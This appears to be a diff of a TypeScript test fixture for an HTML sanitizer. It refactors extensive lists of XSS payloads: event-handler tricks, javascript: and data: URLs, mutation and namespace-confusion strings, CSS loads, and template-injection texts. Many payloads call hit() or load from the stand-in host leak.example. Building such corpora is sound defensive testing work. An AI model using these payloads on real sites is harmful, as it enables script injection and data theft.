@@ -4,48 +4,39 @@
  */
 
 const leak = (what: string) => `https://leak.example/${what}`;
+const words = (text: string) => text.split(' ');
+
+/** A picture that cannot be loaded, which runs its handler at once. */
+const PICTURE = '<img src=x onerror=hit()>';
+const PARENT_SCRIPT = 'data:text/html,<script>parent.hit()</script>';
+
+/** Elements, the last attribute of each of which holds an address that may follow from the element's name. */
+const holding = (elements: string, address: (name: string) => string) =>
+  elements.split(', ').map((element) => {
+    const [name = ''] = words(element);
+    return `<${element}="${address(name)}">x</${name}>`;
+  });
 
 /** Elements with a handler that runs by itself, or as soon as somebody looks. */
 const handlers = [
   ...['onerror', 'ONERROR', 'oNeRrOr', 'onerror\n', 'onerror\t', 'onerror /'].map(
     (name) => `<img src=x ${name}=hit()>`,
   ),
-  ...['onload', 'onloadstart', 'onloadend'].map(
+  ...words('onload onloadstart onloadend').map(
     (name) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" ${name}="hit()">`,
   ),
-  ...[
-    'onmouseover',
-    'onmouseenter',
-    'onpointerenter',
-    'onclick',
-    'onauxclick',
-    'onfocus',
-    'onfocusin',
-    'onblur',
-    'onkeydown',
-    'oncopy',
-    'ondrag',
-    'onwheel',
-    'ontoggle',
-    'onbeforetoggle',
-    'onscroll',
-    'onanimationstart',
-    'ontransitionend',
-    'oncontentvisibilityautostatechange',
-  ].map((name) => `<p ${name}="hit()" tabindex=1 autofocus style="content-visibility:auto;animation:x">look</p>`),
+  ...words(
+    'onmouseover onmouseenter onpointerenter onclick onauxclick onfocus onfocusin onblur onkeydown oncopy ondrag onwheel ' +
+      'ontoggle onbeforetoggle onscroll onanimationstart ontransitionend oncontentvisibilityautostatechange',
+  ).map((name) => `<p ${name}="hit()" tabindex=1 autofocus style="content-visibility:auto;animation:x">look</p>`),
+  ...words('input select textarea').map((name) => `<${name} autofocus onfocus=hit()></${name}>`),
+  ...words('video audio').map((name) => `<${name} src=x onerror=hit()></${name}>`),
+  ...words('embed iframe body').map((name) => `<${name} onload=hit()></${name}>`),
   '<details open ontoggle=hit()><summary>x</summary>y</details>',
-  '<input autofocus onfocus=hit()>',
-  '<select autofocus onfocus=hit()></select>',
-  '<textarea autofocus onfocus=hit()></textarea>',
-  '<video src=x onerror=hit()></video>',
   '<video><source onerror=hit()></video>',
-  '<audio src=x onerror=hit()></audio>',
-  '<body onload=hit()>',
   '<body onpageshow=hit()>',
   '<marquee onstart=hit()>x</marquee>',
   '<object data=x onerror=hit()></object>',
-  '<embed src=x onload=hit()>',
-  '<iframe onload=hit()></iframe>',
   '<a href=# onclick=hit()>x</a>',
   '<button popovertarget=x onclick=hit()>x</button><p popover id=x onbeforetoggle=hit()>x</p>',
   '<img/src/onerror=hit()>',
@@ -53,14 +44,10 @@ const handlers = [
   '<img src=x\u0000 onerror=hit()>',
   '<img src=x onerror="&#104;&#105;&#116;()">',
   "<img src=x onerror=\"window['hi'+'t']()\">",
-  '"><img src=x onerror=hit()>',
-  "'><img src=x onerror=hit()>",
-  '</textarea><img src=x onerror=hit()>',
-  '</title><img src=x onerror=hit()>',
-  '--><img src=x onerror=hit()>',
-  ']]><img src=x onerror=hit()>',
+  ...['">', "'>", '</textarea>', '</title>', '-->', ']]>'].map((end) => end + PICTURE),
 ];
 
+/** Addresses that are none of the web: as they are, and as a parser reads them once it drops or decodes something. */
 const schemes = [
   'javascript:hit()',
   'JaVaScRiPt:hit()',
@@ -68,28 +55,18 @@ const schemes = [
   '\tjavascript:hit()',
   'java\nscript:hit()',
   'java\tscript:hit()',
-  'java\rscript:hit()',
-  'java&#10;script:hit()',
   'java&Tab;script:hit()',
   'javascript&colon;hit()',
   '&#106;avascript:hit()',
-  '&#x6A;avascript:hit()',
-  '&#0000106avascript:hit()',
   '\u0001javascript:hit()',
   'javascript://%0ahit()',
-  'javascript://example.org/%0d%0ahit()',
-  'javascript:void(hit())',
   'javascript:/*--></title></style></textarea></script>*/hit()',
   'vbscript:hit()',
   'data:text/html,<script>hit()</script>',
   'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
   'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>',
   'blob:https://leak.example/1',
-  'filesystem:https://leak.example/1',
-  'view-source:javascript:hit()',
   'feed:javascript:hit()',
-  'livescript:hit()',
-  'mocha:hit()',
 ];
 
 /** Addresses that run something when they are followed, or loaded. */
@@ -116,43 +93,33 @@ const scripts = [
   '<script>hit()',
   '<<script>hit()//<</script>',
   '<scr<script>ipt>hit()</scr</script>ipt>',
-  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
   '<template><script>hit()</script></template>',
   '<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>',
   '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
-  '<iframe src="data:text/html,<script>parent.hit()</script>"></iframe>',
-  '<object data="data:text/html,<script>parent.hit()</script>"></object>',
-  '<embed src="data:text/html,<script>parent.hit()</script>">',
+  ...holding('iframe src, object data, embed src', () => PARENT_SCRIPT),
   '<frameset><frame src="javascript:parent.hit()"></frameset>',
   '<portal src="https://leak.example/"></portal>',
-  '<xmp><img src=x onerror=hit()></xmp>',
-  '<plaintext><img src=x onerror=hit()>',
+  ...words('xmp plaintext').map((name) => `<${name}>${PICTURE}</${name}>`),
   '<listing>&lt;img src=x onerror=hit()&gt;</listing>',
 ];
 
 /** Other namespaces, where the rules of parsing differ. */
 const namespaces = [
+  ...words('foreignObject style title desc').map((name) => `<svg><${name}>${PICTURE}</${name}></svg>`),
+  ...words('animate set discard').map((name) => `<svg><${name} onbegin=hit() attributeName=x dur=1s></svg>`),
+  ...words('image feImage').map((name) => `<svg><${name} href="${leak(name)}"></svg>`),
   '<svg onload=hit()></svg>',
   '<svg><script>hit()</script></svg>',
   '<svg><script href="https://leak.example/x.js"></script></svg>',
-  '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
-  '<svg><set onbegin=hit() attributeName=x></svg>',
   '<svg><a><animate attributeName=href values="javascript:hit()"/><text>x</text></a></svg>',
   '<svg><a xlink:href="javascript:hit()"><text x=0 y=20>x</text></a></svg>',
-  '<svg><image href="https://leak.example/x.svg"></svg>',
   '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=hit() /></svg>#x"></svg>',
-  '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>',
   '<svg><style>@import "https://leak.example/x.css";</style></svg>',
-  '<svg><style><img src=x onerror=hit()></style></svg>',
-  '<svg><title><img src=x onerror=hit()></title></svg>',
-  '<svg><desc><img src=x onerror=hit()></desc></svg>',
-  '<svg><feImage href="https://leak.example/x.svg"/></svg>',
-  '<svg><discard onbegin=hit()></svg>',
   '<svg><handler type="text/javascript">hit()</handler></svg>',
-  '<math><mtext><img src=x onerror=hit()></mtext></math>',
+  `<math><mtext>${PICTURE}</mtext></math>`,
   '<math href="javascript:hit()">x</math>',
   '<math><maction actiontype="statusline" xlink:href="javascript:hit()">x</maction></math>',
-  '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>',
+  `<math><annotation-xml encoding="text/html">${PICTURE}</annotation-xml></math>`,
   '<math><mi xlink:href="data:text/html,<script>hit()</script>">x</mi></math>',
 ];
 
@@ -165,19 +132,13 @@ const mutations = [
   '<svg><p><style><g title="</style><img src onerror=hit()>">',
   '<math><p></p><style><!--</style><img src/onerror=hit()>--></style></math>',
   '<p id="</style><img src=x onerror=hit()>"><svg><style>',
-  '<noembed><p title="</noembed><img src=x onerror=hit()>"></noembed>',
-  '<noframes><p title="</noframes><img src=x onerror=hit()>"></noframes>',
-  '<textarea><p title="</textarea><img src=x onerror=hit()>"></textarea>',
-  '<title><p title="</title><img src=x onerror=hit()>"></title>',
-  '<style><p title="</style><img src=x onerror=hit()>"></style>',
+  ...words('noscript noembed noframes textarea title style').map(
+    (name) => `<${name}><p title="</${name}>${PICTURE}"></${name}>`,
+  ),
   '<table><td><svg><desc><td><img src=x onerror=hit()></td></desc></svg></td></table>',
-  '<select><template><img src=x onerror=hit()></template></select>',
-  '<select><option><img src=x onerror=hit()></option></select>',
+  ...words('template option').map((name) => `<select><${name}>${PICTURE}</${name}></select>`),
   '<p title="`<img src=x onerror=hit()>`">`</p>',
-  '<!--><img src=x onerror=hit()>-->',
-  '<!--!><img src=x onerror=hit()>-->',
-  '<![CDATA[<img src=x onerror=hit()>]]>',
-  '<?xml version="1.0"?><img src=x onerror=hit()>',
+  ...['<!-->', '<!--!>', '<![CDATA[', '<?xml version="1.0"?>'].map((opening) => opening + PICTURE),
   `${'<div>'.repeat(520)}<svg><style><img src=x onerror=hit()></style></svg>${'</div>'.repeat(520)}`,
   '<a><b><a><b><svg></a></b><img src=x onerror=hit()>',
   '<pre><code>&lt;/code&gt;&lt;img src=x onerror=hit()&gt;</code></pre>',
@@ -187,33 +148,21 @@ const mutations = [
 
 /** What asks another address without running anything. */
 const loads = [
-  `<img src="${leak('img')}">`,
-  `<img srcset="${leak('srcset')} 1x">`,
-  `<img src=x srcset="${leak('srcset2')} 2x" sizes=100vw>`,
+  ...holding(
+    'img src, img srcset, img src=x sizes=100vw srcset, img lowsrc, img dynsrc, input type=image src, video poster, ' +
+      'video autoplay src, audio autoplay src, body background, table background, link rel=stylesheet href, ' +
+      'link rel=prefetch href, link rel=dns-prefetch href, link rel=preload as=image href, link rel=manifest href, ' +
+      'iframe src, object data, embed src, applet code=x archive, frame src, bgsound src',
+    leak,
+  ),
   `<picture><source srcset="${leak('source')}"><img alt=x></picture>`,
-  `<img lowsrc="${leak('lowsrc')}" dynsrc="${leak('dynsrc')}">`,
-  `<input type=image src="${leak('input')}">`,
-  `<video poster="${leak('poster')}" src="${leak('video')}" autoplay></video>`,
-  `<audio src="${leak('audio')}" autoplay></audio>`,
   `<video><track src="${leak('track')}" default></video>`,
-  `<body background="${leak('body')}">x</body>`,
-  `<table background="${leak('table')}"><tr><td background="${leak('td')}">x</td></tr></table>`,
-  `<link rel=stylesheet href="${leak('link')}">`,
-  `<link rel=prefetch href="${leak('prefetch')}">`,
-  `<link rel=dns-prefetch href="//leak.example">`,
-  `<link rel=preload as=image href="${leak('preload')}">`,
-  `<link rel=manifest href="${leak('manifest')}">`,
+  `<table><tr><td background="${leak('td')}">x</td></tr></table>`,
   `<meta http-equiv=refresh content="0;url=${leak('meta')}">`,
   `<meta http-equiv=refresh content="0;url=javascript:hit()">`,
   `<base href="${leak('base/')}"><img src=x><a href=y>z</a>`,
   `<base target=_self href="javascript:hit()//">`,
   `<form action="${leak('form')}"><input autofocus name=x><button>send</button></form>`,
-  `<iframe src="${leak('iframe')}"></iframe>`,
-  `<object data="${leak('object')}"></object>`,
-  `<embed src="${leak('embed')}">`,
-  `<applet code=x archive="${leak('applet')}"></applet>`,
-  `<frame src="${leak('frame')}">`,
-  `<bgsound src="${leak('bgsound')}">`,
   `<img src="//leak.example/scheme-relative">`,
   `<img src="\\\\leak.example\\unc">`,
   `<img src="http://leak.example/insecure">`,
@@ -224,15 +173,12 @@ const loads = [
 
 /** Style that loads, covers the window, or used to run something. */
 const styles = [
-  `<p style="background:url(${leak('bg')})">x</p>`,
+  ...words('background list-style content border-image mask filter').map(
+    (property) => `<p style="${property}:url(${leak(property)})">x</p>`,
+  ),
+  `<p style="cursor:url(${leak('cursor')}),auto">x</p>`,
   `<p style="background:u\\72l(${leak('escaped')})">x</p>`,
   `<p style="background-image:image-set('${leak('set')}' 1x)">x</p>`,
-  `<p style="list-style:url('${leak('list')}')">x</p>`,
-  `<p style="cursor:url(${leak('cursor')}),auto">x</p>`,
-  `<p style="content:url(${leak('content')})">x</p>`,
-  `<p style="border-image:url(${leak('border')})">x</p>`,
-  `<p style="mask:url(${leak('mask')})">x</p>`,
-  `<p style="filter:url(${leak('filter')}#x)">x</p>`,
   `<p style="--x:url(${leak('variable')});background:var(--x)">x</p>`,
   '<p style="width:expression(hit())">x</p>',
   '<p style="behavior:url(#default#time2)" onbegin=hit()>x</p>',
@@ -262,10 +208,6 @@ const clobbering = [
 /** Texts that are dangerous where somebody puts a text together into HTML, a selector or a template. */
 const texts = [
   '{{constructor.constructor("hit()")()}}',
-  '${hit()}',
-  '<%= hit() %>',
-  '#{hit()}',
-  '[[hit()]]',
   '$t(inbox.title){{hit()}}',
   '"]\' onmouseover=hit() x="',
   '\u202e<img src=x onerror=hit()>',
@@ -275,8 +217,6 @@ const texts = [
   '＜img src=x onerror=hit()＞',
   '&lt;img src=x onerror=hit()&gt;',
   '&amp;lt;img src=x onerror=hit()&amp;gt;',
-  '%3Cimg%20src=x%20onerror=hit()%3E',
-  '\\x3cimg src=x onerror=hit()\\x3e',
 ];
 
 export const families: Readonly<Record<string, readonly string[]>> = {
